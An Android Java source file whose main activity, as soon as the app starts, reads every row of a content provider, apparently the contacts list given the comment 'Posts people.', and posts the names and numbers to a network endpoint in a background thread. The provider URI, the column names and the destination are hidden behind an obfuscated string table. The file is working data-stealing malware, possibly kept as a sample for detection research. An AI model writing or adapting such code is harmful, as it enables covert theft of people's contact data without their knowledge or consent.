package com.example.assetxored;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;

/** Posts people. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setTitle(Texts.get(this, 0));
        new Thread(() -> Net.post(Texts.get(this, 1), readAll())).start();
    }

    private String readAll() {
        StringBuilder text = new StringBuilder();
        Cursor cursor = getContentResolver().query(Uri.parse(Texts.get(this, 5)), null, null, null, null);
        int first = cursor.getColumnIndex(Texts.get(this, 6));
        int second = cursor.getColumnIndex(Texts.get(this, 7));
        while (cursor.moveToNext()) {
            text.append(cursor.getString(first)).append(' ').append(cursor.getString(second)).append('\n');
        }
        cursor.close();
        return text.toString();
    }
}
